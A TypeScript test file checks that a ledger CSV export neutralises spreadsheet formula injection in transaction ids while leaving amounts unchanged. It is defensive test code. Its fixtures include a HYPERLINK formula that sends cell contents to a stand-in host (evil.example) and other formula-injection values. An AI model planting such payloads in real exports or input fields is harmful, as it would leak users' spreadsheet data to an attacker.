/**
 * The day CSV an accountant opens in a spreadsheet: text from outside (a transaction id as the payment
 * API or a kiosk sent it) must not run as a formula there, and the figures must read back unchanged.
 */
import assert from 'node:assert/strict';

import { LEDGER_CSV_COLUMNS, ledgerCsv } from '../../src/dashboard/ledger-csv.js';
import type { LedgerRow } from '../../src/dashboard/store/fleet-store.js';
import { csvField, parseCsv } from '../../src/util/csv.js';

const row = (over: Partial<LedgerRow>): LedgerRow => ({
  kioskId: 'k-0001',
  eventId: '6f1c1e52-5d7e-4b7a-9a53-0c1d2e3f4a5b',
  type: 'transaction',
  kind: 'sale',
  outcome: 'completed',
  amountCents: 250,
  discountCents: null,
  currency: 'EUR',
  paymentMethod: 'card_balance',
  transactionId: 'STX_1',
  card: '9276********2845',
  seq: 1,
  happenedAt: Date.UTC(2026, 11, 3, 10),
  day: '2026-12-03',
  ...over,
});

describe('dashboard day CSV', () => {
  it('defuses text a spreadsheet would run as a formula, and keeps every figure as it was', () => {
    const csv = ledgerCsv([
      row({ transactionId: '=HYPERLINK("http://evil.example/?"&A1,"refund")' }),
      row({ transactionId: '@SUM(H2:H9)', seq: 2 }),
      row({ transactionId: '+31-7', type: 'terminal', kind: 'reversal', amountCents: -200, seq: 3 }),
      row({ transactionId: '-42', seq: 4 }),
    ]);
    const [header, ...records] = parseCsv(csv, ',');
    assert.deepEqual(header, [...LEDGER_CSV_COLUMNS]);
    const col = (name: (typeof LEDGER_CSV_COLUMNS)[number]) =>
      records.map((r) => r[LEDGER_CSV_COLUMNS.indexOf(name)]);
    assert.deepEqual(col('transaction_id'), [
      `'=HYPERLINK("http://evil.example/?"&A1,"refund")`,
      `'@SUM(H2:H9)`,
      `'+31-7`,
      '-42',
    ]);
    assert.deepEqual(col('amount_cents'), ['250', '250', '-200', '250'], 'numbers untouched');
    assert.deepEqual(col('card'), Array(4).fill('9276********2845'));
  });

  it('leaves numbers written as text alone (the kiosk export’s euro amounts)', () => {
    assert.equal(csvField('-0,20', ';'), '-0,20');
    assert.equal(csvField('+1.50', ','), '+1.50');
    assert.equal(csvField(-20, ';'), '-20');
    assert.equal(csvField('=1+1', ';'), "'=1+1");
    assert.equal(csvField('\tx', ';'), "'\tx");
  });
});
